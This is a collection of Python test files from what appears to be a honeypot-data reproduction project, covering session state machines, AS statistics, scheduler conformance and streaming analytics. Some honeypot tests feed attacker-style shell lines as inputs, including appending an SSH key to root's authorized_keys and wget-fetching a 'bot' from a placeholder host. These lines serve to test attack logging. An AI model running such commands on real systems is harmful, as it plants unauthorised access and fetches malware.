from repro.geo.registry import GeoRegistry, NetworkType
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder


def tiny_store():
    builder = StoreBuilder()
    rows = [
        # AS 100: two scanning IPs
        dict(client_ip=1, client_asn=100, n_login_attempts=0, login_success=False),
        dict(client_ip=2, client_asn=100, n_login_attempts=0, login_success=False),
        dict(client_ip=1, client_asn=100, n_login_attempts=0, login_success=False),
        # AS 200: one intruder with a hash
        dict(client_ip=3, client_asn=200, n_login_attempts=1,
             login_success=True, commands=("x",), file_hashes=("c" * 64,)),
    ]
    for row in rows:
        base = dict(start_time=0.0, duration=1.0, honeypot_id="p0",
                    protocol="ssh", client_country="US")
        base.update(row)
        builder.append(SessionRecord(**base))
    return builder.build()


class TestAsCounts:
    def test_by_category(self):
        counts = as_counts_by_category(tiny_store())
        assert counts["NO_CRED"] == 1
        assert counts["CMD"] == 1
        assert counts["FAIL_LOG"] == 0

    def test_ips_per_as(self):
        per_as = ips_per_as(tiny_store())
        assert per_as == {100: 2, 200: 1}

    def test_top_ases(self):
        ranked = top_ases(tiny_store(), k=1)
        assert ranked == [(100, 2)]

    def test_hashes_per_as(self):
        occ = HashOccurrences.build(tiny_store())
        per_as = hashes_per_as(occ)
        assert per_as == {200: 1}

    def test_negative_asn_ignored(self):
        builder = StoreBuilder()
        builder.append(SessionRecord(
            start_time=0.0, duration=1.0, honeypot_id="p0", protocol="ssh",
            client_ip=1, client_asn=-1, client_country="",
            n_login_attempts=0, login_success=False,
        ))
        assert ips_per_as(builder.build()) == {}


class TestNetworkTypes:
    def test_breakdown(self):
        registry = GeoRegistry()
        res = registry.register_as("DE", NetworkType.RESIDENTIAL)
        dc = registry.register_as("US", NetworkType.DATACENTER)
        builder = StoreBuilder()
        for asn, ip in ((res.asn, 1), (res.asn, 2), (dc.asn, 3)):
            builder.append(SessionRecord(
                start_time=0.0, duration=1.0, honeypot_id="p0", protocol="ssh",
                client_ip=ip, client_asn=asn, client_country="DE",
                n_login_attempts=0, login_success=False,
            ))
        breakdown = network_type_breakdown(builder.build(), registry)
        assert breakdown.ips == {"residential": 2, "datacenter": 1}
        assert breakdown.ip_share(NetworkType.RESIDENTIAL) == pytest.approx(2 / 3)

    def test_generated_category_ordering(self, small_dataset):
        # Paper: AS diversity shrinks with interaction depth
        # (NO_CRED 14k > FAIL_LOG 11.7k ~ CMD 10.6k > NO_CMD 8.5k > URI 1.3k).
        counts = as_counts_by_category(small_dataset.store)
        assert counts["NO_CRED"] > counts["NO_CMD"]
        assert counts["NO_CRED"] > counts["CMD_URI"]
        assert counts["CMD"] > counts["CMD_URI"]

    def test_generated_network_mix(self, small_dataset):
        breakdown = network_type_breakdown(small_dataset.store,
                                           small_dataset.registry)
        assert breakdown.ip_share(NetworkType.RESIDENTIAL) > 0.2
        assert sum(breakdown.sessions.values()) == len(small_dataset.store)
