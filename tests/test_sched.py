"""Backend conformance suite for the task-trace scheduler (repro.sched).

The contract under test: scheduling is output-neutral.  Whatever backend
runs the shards, however many workers it uses, in whatever order tasks
arrive, and however many attempts a task needs, the merged store is
byte-identical to the in-process golden path (sha256 over the persisted
npz content, the same identity PRs 3/5 checked for worker counts).
"""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import repro.workload.shards as shards
from repro.sched import (
    InlineBackend,
    PoolBackend,
    QueueBackend,
    Scheduler,
    SchedulerConfig,
    SchedulerError,
    ShardTask,
    TaskOutcome,
    WorkTrace,
    build_trace,
    generate_scheduled,
    make_backend,
    matches_plan,
)
from repro.workload.config import ScenarioConfig
from repro.workload.generator import TraceGenerator
from repro.workload.shards import ShardPlan

REPO_ROOT = Path(__file__).resolve().parent.parent

#: Small enough to generate in a couple of seconds, large enough for a
#: three-figure shard count (real scheduling pressure).
CONFIG = ScenarioConfig(scale=1 / 80000, seed=7, hash_scale=0.004)


@pytest.fixture(scope="module")
def plan() -> ShardPlan:
    shards._PLAN = None
    return shards._plan_for(CONFIG)


@pytest.fixture(scope="module")
def reference_digest() -> str:
    """The golden path: InlineBackend, one worker."""
    dataset = generate_scheduled(CONFIG, backend="inline", workers=1)
    return dataset.store.content_digest()


# -- the work trace ------------------------------------------------------------


class TestWorkTrace:
    def test_deterministic_for_a_config(self, plan):
        assert build_trace(plan, CONFIG) == build_trace(plan, CONFIG)

    def test_seed_changes_arrivals_not_tasks(self, plan):
        base = build_trace(plan, CONFIG)
        other_config = ScenarioConfig(
            scale=CONFIG.scale, seed=CONFIG.seed + 1,
            hash_scale=CONFIG.hash_scale,
        )
        other = build_trace(plan, other_config)
        assert [t.key for t in base.tasks] == [t.key for t in other.tasks]
        assert [t.arrival for t in base.tasks] != \
            [t.arrival for t in other.tasks]

    def test_first_arrival_is_zero_and_offsets_increase(self, plan):
        trace = build_trace(plan, CONFIG)
        arrivals = [t.arrival for t in trace.tasks]
        assert arrivals[0] == 0.0
        assert arrivals == sorted(arrivals)
        assert trace.makespan_virtual == arrivals[-1]

    def test_est_cost_covers_planned_sessions(self, plan):
        trace = build_trace(plan, CONFIG)
        assert all(t.est_cost >= 0 for t in trace.tasks)
        assert trace.total_cost > 0

    def test_matches_plan(self, plan):
        trace = build_trace(plan, CONFIG)
        assert matches_plan(trace, plan)
        truncated = WorkTrace(tasks=trace.tasks[:-1], lam=trace.lam,
                              seed=trace.seed)
        assert not matches_plan(truncated, plan)

    def test_jsonl_roundtrip(self, plan, tmp_path):
        trace = build_trace(plan, CONFIG, lam=8.0)
        path = tmp_path / "trace.jsonl"
        trace.save_jsonl(path)
        assert WorkTrace.load_jsonl(path) == trace

    def test_load_rejects_bad_version(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text(json.dumps({"version": 99, "n_tasks": 0}) + "\n")
        with pytest.raises(ValueError, match="version"):
            WorkTrace.load_jsonl(path)

    def test_with_arrival_order_is_a_permutation(self, plan):
        trace = build_trace(plan, CONFIG)
        reordered = trace.with_arrival_order(
            list(range(len(trace)))[::-1]
        )
        assert sorted(t.arrival for t in reordered.tasks) == \
            sorted(t.arrival for t in trace.tasks)
        assert [t.key for t in reordered.tasks] == \
            [t.key for t in trace.tasks]
        first = reordered.in_arrival_order()[0]
        assert first.index == len(trace) - 1

    def test_replayed_trace_must_match_plan(self, plan, tmp_path):
        trace = build_trace(plan, CONFIG)
        stale = WorkTrace(tasks=trace.tasks[:10], lam=trace.lam,
                          seed=trace.seed)
        path = tmp_path / "stale.jsonl"
        stale.save_jsonl(path)
        with pytest.raises(ValueError, match="does not match"):
            generate_scheduled(CONFIG, backend="inline", workers=1,
                               trace_file=path)

    def test_trace_file_records_then_replays(self, tmp_path,
                                             reference_digest):
        path = tmp_path / "run.jsonl"
        first = generate_scheduled(CONFIG, backend="inline",
                                   trace_file=path)
        assert path.exists()
        replayed = generate_scheduled(CONFIG, backend="inline",
                                      trace_file=path)
        assert first.store.content_digest() == reference_digest
        assert replayed.store.content_digest() == reference_digest


# -- backend conformance: byte-identical stores --------------------------------


class TestBackendConformance:
    @pytest.mark.parametrize("backend,workers", [
        ("pool", 1), ("pool", 2), ("pool", 4), ("queue", 1),
    ])
    def test_store_byte_identical_to_inline(self, backend, workers,
                                            reference_digest):
        dataset = generate_scheduled(CONFIG, backend=backend,
                                     workers=workers)
        assert dataset.store.content_digest() == reference_digest

    def test_make_backend_spellings(self):
        assert isinstance(make_backend("inline"), InlineBackend)
        assert isinstance(make_backend("pool", workers=3), PoolBackend)
        assert isinstance(make_backend("queue"), QueueBackend)
        with pytest.raises(ValueError, match="unknown backend"):
            make_backend("carrier-pigeon")

    def test_queue_backend_serves_external_nodes(self, plan, tmp_path,
                                                 reference_digest):
        """The multi-node seam end-to-end: tasks spooled to disk, drained
        by ``python -m repro.sched.node`` in a separate process, bundles
        merged back — still byte-identical."""
        backend = QueueBackend(root=tmp_path / "spool",
                               service_inline=False)
        trace = build_trace(plan, CONFIG)
        backend.open(CONFIG, want_trace=False)
        for task in trace.tasks:
            backend.submit(task)
        import os

        env = dict(os.environ, PYTHONPATH=str(REPO_ROOT / "src"))
        proc = subprocess.run(
            [sys.executable, "-m", "repro.sched.node",
             str(tmp_path / "spool"), "--worker", "test-node"],
            capture_output=True, text=True, cwd=REPO_ROOT, env=env,
        )
        assert proc.returncode == 0, proc.stderr
        assert f"serviced {len(trace)} task(s)" in proc.stderr
        outcomes = backend.collect(timeout=0.0)
        backend.close()
        assert sorted(o.task.index for o in outcomes) == \
            list(range(len(trace)))
        assert {o.worker for o in outcomes} == {"test-node"}
        merged = plan.gen.builder.fork_tables()
        for outcome in sorted(outcomes, key=lambda o: o.task.index):
            merged.adopt_store(outcome.store)
        assert merged.build().content_digest() == reference_digest


# -- scheduler policy: elasticity, retry, stragglers ---------------------------


class FlakyBackend(InlineBackend):
    """Inline execution that reports errors for one task's first N tries."""

    name = "flaky"

    def __init__(self, fail_index: int, fail_times: int = 1):
        super().__init__()
        self.fail_index = fail_index
        self.fail_times = fail_times

    def collect(self, timeout: float = 0.25):
        if self._pending and self.fail_times \
                and self._pending[0][0].index == self.fail_index:
            task, attempt = self._pending.pop(0)
            self.fail_times -= 1
            return [TaskOutcome(task=task, attempt=attempt, worker="flaky",
                                error="injected failure")]
        return super().collect(timeout)


class BlackHoleBackend(InlineBackend):
    """Inline execution that swallows one task's first submission —
    a hung worker, as seen from the scheduler."""

    name = "black-hole"

    def __init__(self, hold_index: int):
        super().__init__()
        self.hold_index = hold_index
        self.held = False

    def collect(self, timeout: float = 0.25):
        if self._pending and not self.held \
                and self._pending[0][0].index == self.hold_index:
            self._pending.pop(0)
            self.held = True
            return []
        return super().collect(timeout)


class TestSchedulerPolicy:
    def test_elastic_pool_grows_and_shrinks_mid_trace(self,
                                                      reference_digest):
        from repro.obs import use_metrics

        sched = SchedulerConfig(workers=1, min_workers=1, max_workers=3,
                                grow_backlog=2.0)
        with use_metrics() as metrics:
            dataset = generate_scheduled(CONFIG, backend="pool",
                                         workers=1, sched=sched)
        assert dataset.store.content_digest() == reference_digest
        assert metrics.counter("sched.workers_grown") >= 2
        assert metrics.counter("sched.workers_shrunk") >= 1
        assert metrics.gauges["sched.workers_peak"] == 3

    def test_retry_recovers_from_task_error(self, reference_digest):
        from repro.obs import use_metrics

        sched = SchedulerConfig(max_attempts=3, retry_backoff_collects=1)
        with use_metrics() as metrics:
            dataset = generate_scheduled(
                CONFIG, backend=FlakyBackend(fail_index=2), sched=sched,
            )
        assert dataset.store.content_digest() == reference_digest
        assert metrics.counter("sched.tasks_retried") == 1

    def test_bounded_retry_exhaustion_raises(self):
        sched = SchedulerConfig(max_attempts=2, retry_backoff_collects=1)
        with pytest.raises(SchedulerError, match="failed 2 attempt"):
            generate_scheduled(
                CONFIG, backend=FlakyBackend(fail_index=2, fail_times=99),
                sched=sched,
            )

    def test_straggler_requeue_completes_around_hung_task(
            self, reference_digest):
        from repro.obs import use_metrics

        sched = SchedulerConfig(straggler_factor=1e-6)
        with use_metrics() as metrics:
            dataset = generate_scheduled(
                CONFIG, backend=BlackHoleBackend(hold_index=5), sched=sched,
            )
        assert dataset.store.content_digest() == reference_digest
        assert metrics.counter("sched.stragglers_requeued") >= 1

    def test_pool_worker_death_is_retried(self, tmp_path, monkeypatch,
                                          reference_digest):
        """Real fault injection: a worker process hard-exits mid-task
        (exactly once); the scheduler detects the death, retries the task
        on the healed pool, and the output is unchanged."""
        from repro.obs import use_metrics

        monkeypatch.setenv("REPRO_SCHED_FAIL_TASK", "3")
        monkeypatch.setenv("REPRO_SCHED_FAIL_ONCE_DIR", str(tmp_path))
        backend = PoolBackend(workers=2)
        with use_metrics() as metrics:
            dataset = generate_scheduled(CONFIG, backend=backend,
                                         workers=2)
        assert dataset.store.content_digest() == reference_digest
        assert backend.deaths == 1
        # The dying worker loses the task it was executing plus anything
        # it had picked up or finished-but-not-flushed; each is retried.
        # Tasks still unread in its pipe are recovered without a retry.
        retried = metrics.counter("sched.tasks_retried")
        assert 1 <= retried <= PoolBackend.depth
        assert (tmp_path / "failed-3").exists()

    def test_task_accounting_counters(self, plan):
        from repro.obs import use_metrics

        with use_metrics() as metrics:
            generate_scheduled(CONFIG, backend="inline")
        n = len(plan.shards)
        assert metrics.counter("sched.tasks_submitted") == n
        assert metrics.counter("sched.tasks_completed") == n
        assert metrics.gauges["sched.arrival_rate"] > 0


# -- arrival-order invariance (property) ---------------------------------------


class TestArrivalOrderInvariance:
    @settings(max_examples=5, deadline=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(data=st.data())
    def test_permuting_inter_arrivals_never_changes_store(
            self, data, plan, reference_digest):
        trace = build_trace(plan, CONFIG)
        order = data.draw(st.permutations(list(range(len(trace)))))
        dataset = generate_scheduled(
            CONFIG, backend="inline",
            work_trace=trace.with_arrival_order(order),
        )
        assert dataset.store.content_digest() == reference_digest
