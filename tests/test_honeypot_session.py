"""Tests for the honeypot session state machine."""

import pytest

from repro.honeypot.events import EventType
from repro.honeypot.protocol import Protocol
from repro.honeypot.session import (
    CloseReason,
    HoneypotSession,
    SessionConfig,
    SessionState,
)


def make_session(protocol=Protocol.SSH, events=None, config=None):
    return HoneypotSession(
        honeypot_id="hp-001",
        honeypot_ip=1,
        protocol=protocol,
        client_ip=2,
        client_port=40000,
        start_time=0.0,
        config=config or SessionConfig(),
        event_sink=(events.append if events is not None else None),
    )


class TestLifecycle:
    def test_initial_state(self):
        session = make_session()
        assert session.state is SessionState.CONNECTED
        assert not session.is_closed

    def test_connect_event_emitted(self):
        events = []
        make_session(events=events)
        assert events[0].event_type is EventType.SESSION_CONNECT
        assert events[0].data["dst_port"] == 22

    def test_telnet_port(self):
        events = []
        make_session(protocol=Protocol.TELNET, events=events)
        assert events[0].data["dst_port"] == 23

    def test_client_disconnect(self):
        session = make_session()
        session.client_disconnect(5.0)
        assert session.is_closed
        assert session.close_reason is CloseReason.CLIENT_DISCONNECT
        assert session.end_time == 5.0

    def test_double_disconnect_is_noop(self):
        session = make_session()
        session.client_disconnect(5.0)
        session.client_disconnect(9.0)
        assert session.end_time == 5.0

    def test_summary_requires_closed(self):
        session = make_session()
        with pytest.raises(RuntimeError):
            session.summary()

    def test_unique_session_ids(self):
        ids = {make_session().session_id for _ in range(10)}
        assert len(ids) == 10


class TestAuth:
    def test_successful_login_moves_to_shell(self):
        session = make_session()
        result = session.try_login("root", "1234", 1.0)
        assert result.success
        assert session.state is SessionState.SHELL
        assert session.login_success

    def test_rejected_password(self):
        session = make_session()
        assert not session.try_login("root", "root", 1.0).success
        assert session.state is SessionState.CONNECTED

    def test_three_ssh_failures_close_session(self):
        session = make_session()
        session.try_login("admin", "x", 1.0)
        session.try_login("user", "y", 2.0)
        session.try_login("root", "root", 3.0)
        assert session.is_closed
        assert session.close_reason is CloseReason.TOO_MANY_ATTEMPTS

    def test_telnet_not_closed_after_failures(self):
        session = make_session(protocol=Protocol.TELNET)
        for i in range(5):
            session.try_login("admin", "x", float(i))
        assert not session.is_closed

    def test_credentials_recorded(self):
        session = make_session()
        session.try_login("admin", "x", 1.0)
        session.try_login("root", "pw", 2.0)
        assert session.credentials == [("admin", "x"), ("root", "pw")]

    def test_login_events(self):
        events = []
        session = make_session(events=events)
        session.try_login("admin", "x", 1.0)
        session.try_login("root", "pw", 2.0)
        types = [e.event_type for e in events]
        assert EventType.LOGIN_FAILED in types
        assert EventType.LOGIN_SUCCESS in types

    def test_success_resets_deadline_to_idle_timeout(self):
        session = make_session()
        session.try_login("root", "pw", 10.0)
        assert session.deadline == 10.0 + SessionConfig().interaction_timeout

    def test_client_version(self):
        events = []
        session = make_session(events=events)
        session.offer_client_version("SSH-2.0-Go", 0.5)
        assert session.client_version == "SSH-2.0-Go"
        assert any(e.event_type is EventType.CLIENT_VERSION for e in events)


class TestShellPhase:
    def _logged_in(self, events=None):
        session = make_session(events=events)
        session.try_login("root", "pw", 1.0)
        return session

    def test_input_requires_shell_state(self):
        session = make_session()
        with pytest.raises(RuntimeError):
            session.input_line("uname", 1.0)

    def test_commands_recorded(self):
        session = self._logged_in()
        session.input_line("uname -a; free", 2.0)
        assert session.commands == ["uname -a", "free"]
        assert session.known_commands == [True, True]

    def test_unknown_command_recorded(self):
        session = self._logged_in()
        session.input_line("frobnicate --all", 2.0)
        assert session.commands == ["frobnicate --all"]
        assert session.known_commands == [False]

    def test_command_events(self):
        events = []
        session = self._logged_in(events=events)
        session.input_line("uname -a", 2.0)
        inputs = [e for e in events if e.event_type is EventType.COMMAND_INPUT]
        assert len(inputs) == 1
        assert inputs[0].data["input"] == "uname -a"

    def test_file_hash_recorded(self):
        session = self._logged_in()
        session.input_line('echo "ssh-rsa KEY" >> /root/.ssh/authorized_keys', 2.0)
        assert len(session.file_hashes) == 1

    def test_file_created_event(self):
        events = []
        session = self._logged_in(events=events)
        session.input_line("echo x > /tmp/new", 2.0)
        assert any(e.event_type is EventType.FILE_CREATED for e in events)

    def test_file_modified_event(self):
        events = []
        session = self._logged_in(events=events)
        session.input_line("echo x > /tmp/f", 2.0)
        session.input_line("echo y > /tmp/f", 3.0)
        assert any(e.event_type is EventType.FILE_MODIFIED for e in events)

    def test_uri_recorded(self):
        session = self._logged_in()
        session.input_line("wget http://x.example/bot", 2.0)
        assert session.uris == ["http://x.example/bot"]

    def test_download_event(self):
        events = []
        session = self._logged_in(events=events)
        session.input_line("wget http://x.example/bot", 2.0)
        downloads = [e for e in events if e.event_type is EventType.FILE_DOWNLOAD]
        assert len(downloads) == 1
        assert downloads[0].data["url"] == "http://x.example/bot"

    def test_exit_closes(self):
        session = self._logged_in()
        session.input_line("exit", 2.0)
        assert session.is_closed
        assert session.close_reason is CloseReason.CLIENT_EXIT


class TestTimeouts:
    def test_auth_timeout(self):
        session = make_session()
        assert session.check_timeout(121.0)
        assert session.close_reason is CloseReason.AUTH_TIMEOUT
        # Session end is pinned at the deadline, not the observation time.
        assert session.end_time == 120.0

    def test_not_yet_timed_out(self):
        session = make_session()
        assert not session.check_timeout(60.0)
        assert not session.is_closed

    def test_idle_timeout_after_login(self):
        session = make_session()
        session.try_login("root", "pw", 10.0)
        assert session.check_timeout(10.0 + 180.0)
        assert session.close_reason is CloseReason.IDLE_TIMEOUT

    def test_input_resets_idle_timer(self):
        session = make_session()
        session.try_login("root", "pw", 1.0)
        session.input_line("uname", 100.0)
        assert not session.check_timeout(181.0)  # old deadline passed harmlessly
        assert session.check_timeout(280.0)

    def test_download_extends_deadline(self):
        session = make_session()
        session.try_login("root", "pw", 1.0)
        session.input_line("wget http://slow.example/big", 2.0)
        download_time = session.shell_context.downloads[0].duration
        assert session.deadline == pytest.approx(2.0 + download_time + 180.0)

    def test_input_after_timeout_rejected(self):
        session = make_session()
        session.try_login("root", "pw", 1.0)
        with pytest.raises(RuntimeError):
            session.input_line("uname", 1000.0)
        assert session.is_closed

    def test_custom_timeouts(self):
        config = SessionConfig(no_login_timeout=10.0, interaction_timeout=20.0)
        session = make_session(config=config)
        assert session.check_timeout(10.0)
        assert session.end_time == 10.0


class TestSummary:
    def test_summary_fields(self):
        session = make_session()
        session.try_login("admin", "x", 1.0)
        session.try_login("root", "1234", 2.0)
        session.input_line("uname -a", 3.0)
        session.client_disconnect(10.0)
        summary = session.summary()
        assert summary.protocol is Protocol.SSH
        assert summary.login_success
        assert summary.n_login_attempts if hasattr(summary, "n_login_attempts") else True
        assert summary.credentials == [("admin", "x"), ("root", "1234")]
        assert summary.commands == ["uname -a"]
        assert summary.duration == 10.0
        assert summary.attempted_login
        assert summary.executed_commands

    def test_summary_scan_session(self):
        session = make_session()
        session.client_disconnect(2.0)
        summary = session.summary()
        assert not summary.attempted_login
        assert not summary.executed_commands
        assert summary.close_reason is CloseReason.CLIENT_DISCONNECT
