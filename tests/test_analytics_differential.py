"""Differential harness: streaming sketches vs the batch pipeline.

The streaming :class:`StreamingAnalytics` consumer and the batch
:class:`AnalysisContext` queries are two independent implementations of
the same aggregates.  This suite feeds both from one generated dataset
and pins the contract:

* **exact** answers (category mix, shares, sessions/day, session count)
  must match the batch group-bys bit for bit;
* **approximate** answers (HLL uniques, count-min occurrences, top-k
  tables) must land inside their documented error envelopes;
* the answers must be **independent of sharding**: per-shard consumers
  folded in any order match the single-pass consumer (exactly for the
  exact/HLL/count-min components, within the envelope for truncated
  top-k), and inline/pool backends at workers 1/2/4 produce identical
  stores and therefore identical analytics.
"""

from __future__ import annotations

import numpy as np
import pytest

import repro
from repro.analytics import StreamingAnalytics, replay_store_events
from repro.core.classify import CATEGORIES, classify_store, category_shares
from repro.core.clients import unique_client_count
from repro.core.hashes import HashOccurrences, compute_hash_stats
from repro.core.timeseries import daily_totals

#: Small but structured: ~5k sessions, ~750 distinct clients (more than
#: the 512-entry top-k capacity, so truncation paths are exercised),
#: ~340 distinct hashes (fewer than capacity, so top-hashes stay exact).
CONFIG = repro.ScenarioConfig(scale=1 / 80000, seed=17, hash_scale=0.004)


@pytest.fixture(scope="module")
def dataset():
    return repro.generate(CONFIG, backend="inline", workers=1)


@pytest.fixture(scope="module")
def store(dataset):
    return dataset.store


@pytest.fixture(scope="module")
def streaming(store):
    analytics = StreamingAnalytics()
    analytics.ingest_store(store)
    return analytics


class TestExactAnswers:
    """Streaming == batch, bit for bit, for the exact accumulators."""

    def test_session_count(self, streaming, store):
        assert streaming.session_count() == len(store)

    def test_category_counts_match_classify_store(self, streaming, store):
        codes = classify_store(store)
        batch = np.bincount(codes, minlength=len(CATEGORIES))
        got = streaming.category_counts()
        for code, category in enumerate(CATEGORIES):
            assert got[category.value] == int(batch[code])

    def test_category_shares_match_batch_floats(self, streaming, store):
        batch = category_shares(store)
        got = streaming.category_shares()
        for category, share in batch.items():
            assert got[category.value] == share  # same division, exact

    def test_sessions_per_day_match_daily_totals(self, streaming, store):
        batch = daily_totals(store)
        got = streaming.sessions_per_day(n_days=len(batch))
        assert got.dtype == np.int64
        np.testing.assert_array_equal(got, batch)


class TestApproximateAnswers:
    """Sketch answers vs batch ground truth, inside documented bounds."""

    def test_unique_clients_within_three_sigma(self, streaming, store):
        true = unique_client_count(store)
        est = streaming.unique_clients()
        assert abs(est - true) <= 3 * streaming.hll_clients.rel_error * true
        low, high = streaming.hll_clients.interval()
        assert low <= true <= high

    def test_unique_hashes_within_three_sigma(self, streaming, store):
        true = HashOccurrences.build(store).n_hashes
        est = streaming.unique_hashes()
        assert abs(est - true) <= 3 * streaming.hll_hashes.rel_error * true

    def test_hash_session_estimates_one_sided(self, streaming, store):
        occ = HashOccurrences.build(store)
        stats = compute_hash_stats(occ)
        slack = streaming.cms_hashes.error_bound()
        misses = 0
        for hash_id, true in zip(stats.hash_id, stats.sessions):
            sha = store.hashes.value_of(int(hash_id))
            est = streaming.hash_sessions_estimate(sha)
            assert est >= int(true)  # never an underestimate
            if est > int(true) + slack:
                misses += 1
        # eps*N slack is per-query at confidence 1-delta, not uniform.
        assert misses <= max(1, 2 * streaming.cms_hashes.delta * len(stats))

    def test_top_hashes_exact_below_capacity(self, streaming, store):
        # ~340 distinct hashes < 512 capacity: the summary never reduced,
        # so the streaming table IS the exact batch table.
        assert streaming.topk_hashes.error() == 0
        stats = compute_hash_stats(HashOccurrences.build(store))
        pairs = [
            (store.hashes.value_of(int(h)), int(n))
            for h, n in zip(stats.hash_id, stats.sessions)
            if n > 0
        ]
        pairs.sort(key=lambda kv: (-kv[1], kv[0]))
        got = streaming.top_hashes(10)
        assert [(sha, lower) for sha, lower, _ in got] == pairs[:10]
        assert all(lower == upper for _, lower, upper in got)

    def test_top_clients_bounds_under_truncation(self, streaming, store):
        # ~750 distinct clients > 512 capacity: reductions fired, so the
        # table is inexact but every entry's envelope must hold.
        assert streaming.topk_clients.error() > 0
        ips, counts = np.unique(store.client_ip, return_counts=True)
        true = dict(zip(ips.tolist(), counts.tolist()))
        for ip, lower, upper in streaming.top_clients(10):
            assert lower <= true[ip] <= upper
        # Heavy hitters above the decrement can never have been evicted.
        err = streaming.topk_clients.error()
        heavy = {int(ip) for ip, n in true.items() if n > err}
        assert heavy <= set(streaming.topk_clients.counts)

    def test_top_asns_exclude_unknown(self, streaming, store):
        table = streaming.top_asns(10)
        assert table
        assert all(asn >= 0 for asn, _, _ in table)
        known = store.client_asn[store.client_asn >= 0]
        asns, counts = np.unique(known, return_counts=True)
        true = dict(zip(asns.tolist(), counts.tolist()))
        for asn, lower, upper in table:
            assert lower <= true[asn] <= upper


class TestEventPathVsStorePath:
    """Replaying the store as events must equal direct store ingestion."""

    def test_event_replay_equals_store_ingest(self, streaming, store):
        replayed = StreamingAnalytics()
        n = replayed.ingest_events(replay_store_events(store))
        assert n == replayed.events_seen > len(store)
        assert replayed == streaming

    def test_replay_is_deterministic(self, store):
        first = replay_store_events(store)[:200]
        second = replay_store_events(store)[:200]
        assert first == second


def _session_blocks(events):
    """Chunk a replayed event list into per-session runs."""
    blocks, current = [], []
    for event in events:
        if event["kind"] == "honeypot.session.connect" and current:
            blocks.append(current)
            current = []
        current.append(event)
    if current:
        blocks.append(current)
    return blocks


def _shard_fold(store, n_shards, order=None):
    """Per-shard consumers folded in ``order`` (default: shard order)."""
    blocks = _session_blocks(replay_store_events(store))
    shards = [StreamingAnalytics() for _ in range(n_shards)]
    for i, block in enumerate(blocks):
        shards[i % n_shards].feed_many(block)
    merged = StreamingAnalytics()
    for i in order if order is not None else range(n_shards):
        merged.merge(shards[i])
    return merged


class TestShardMergeInvariance:
    """Folded per-shard consumers match the single-pass consumer."""

    @pytest.mark.parametrize("n_shards", [2, 4])
    def test_fold_matches_single_pass_componentwise(
        self, streaming, store, n_shards
    ):
        merged = _shard_fold(store, n_shards)
        # Exact accumulators, HLLs and count-min fold exactly.
        assert merged.mix == streaming.mix
        assert merged.days == streaming.days
        assert merged.hll_clients == streaming.hll_clients
        assert merged.hll_hashes == streaming.hll_hashes
        assert merged.cms_hashes == streaming.cms_hashes
        # Top-k hashes never truncated at this scale: exact too.
        assert merged.topk_hashes == streaming.topk_hashes
        assert merged.topk_asns.n == streaming.topk_asns.n
        # Top-k clients truncate (>512 distinct): envelope must hold.
        ips, counts = np.unique(store.client_ip, return_counts=True)
        true = dict(zip(ips.tolist(), counts.tolist()))
        for ip, lower, upper in merged.top_clients(10):
            assert lower <= true[ip] <= upper
        assert merged.topk_clients.n == streaming.topk_clients.n

    def test_fold_order_does_not_matter(self, store):
        forward = _shard_fold(store, 4, order=(0, 1, 2, 3))
        scrambled = _shard_fold(store, 4, order=(2, 0, 3, 1))
        assert forward.mix == scrambled.mix
        assert forward.days == scrambled.days
        assert forward.hll_clients == scrambled.hll_clients
        assert forward.hll_hashes == scrambled.hll_hashes
        assert forward.cms_hashes == scrambled.cms_hashes
        assert forward.topk_hashes == scrambled.topk_hashes

    def test_merge_rejects_different_configs(self):
        from repro.analytics import AnalyticsConfig

        a = StreamingAnalytics()
        b = StreamingAnalytics(AnalyticsConfig(hll_p=10))
        with pytest.raises(ValueError):
            a.merge(b)


class TestBackendMatrix:
    """Inline/pool backends at workers 1/2/4: same store, same answers."""

    @pytest.mark.parametrize(
        "backend,workers", [("pool", 2), ("pool", 4)]
    )
    def test_backend_store_and_analytics_identical(
        self, dataset, streaming, backend, workers
    ):
        other = repro.generate(CONFIG, backend=backend, workers=workers)
        assert other.store.content_digest() == dataset.store.content_digest()
        analytics = StreamingAnalytics()
        analytics.ingest_store(other.store)
        assert analytics == streaming


class TestStreamingIntakeUnit:
    """Intake edge paths that the generated dataset never exercises."""

    def test_observe_record_classifies_like_the_batch_rules(self):
        from repro.store.records import SessionRecord

        cases = [
            (dict(n_login_attempts=0, login_success=False), "NO_CRED"),
            (dict(n_login_attempts=2, login_success=False), "FAIL_LOG"),
            (dict(n_login_attempts=1, login_success=True), "NO_CMD"),
            (dict(n_login_attempts=1, login_success=True,
                  commands=("ls",)), "CMD"),
            (dict(n_login_attempts=1, login_success=True,
                  commands=("wget",), uris=("http://x/a",),
                  file_hashes=("h1",)), "CMD_URI"),
        ]
        analytics = StreamingAnalytics()
        for i, (kw, _) in enumerate(cases):
            analytics.observe_record(SessionRecord(
                start_time=86_400.0 * i, duration=5.0, honeypot_id="pot-a",
                protocol="ssh", client_ip=1000 + i, client_asn=i,
                client_country="US", **kw))
        assert analytics.category_counts() == {
            cat: 1 for cat in ("NO_CRED", "FAIL_LOG", "NO_CMD",
                               "CMD", "CMD_URI")
        }
        assert analytics.top_hashes(1)[0][0] == "h1"

    def test_generator_block_events_update_exact_accumulators_only(self):
        analytics = StreamingAnalytics()
        analytics.feed_many([
            {"kind": "generator.block", "ts": 86_400.0,
             "data": {"category": "bg_uri", "sessions": 10}},
            {"kind": "generator.block", "ts": 86_400.0,
             "data": {"campaign": "c1", "session_kind": "CMD",
                      "sessions": 4}},
            {"kind": "generator.block", "ts": 172_800.0,
             "data": {"category": "whatever?", "sessions": 3}},
            # Degenerate blocks are counted as events but add no sessions.
            {"kind": "generator.block", "ts": 86_400.0,
             "data": {"category": "bg_uri", "sessions": 0}},
            {"kind": "generator.block", "data": {"sessions": 5}},
        ])
        assert analytics.events_seen == 5
        assert analytics.session_count() == 17
        counts = analytics.category_counts()
        assert counts["CMD_URI"] == 10
        assert counts["CMD"] == 7  # campaign fallback + unknown fallback
        np.testing.assert_array_equal(
            analytics.sessions_per_day(), np.array([0, 14, 3]))
        # No client/hash detail rides along with a block.
        assert analytics.unique_clients() == 0.0
        assert analytics.top_hashes() == []

    def test_events_for_unknown_sessions_are_ignored(self):
        analytics = StreamingAnalytics()
        analytics.feed({"kind": "honeypot.session.closed", "ts": 10.0,
                        "data": {"session": "never-connected"}})
        assert analytics.events_seen == 1
        assert analytics.session_count() == 0

    def test_empty_analytics_query_surface(self):
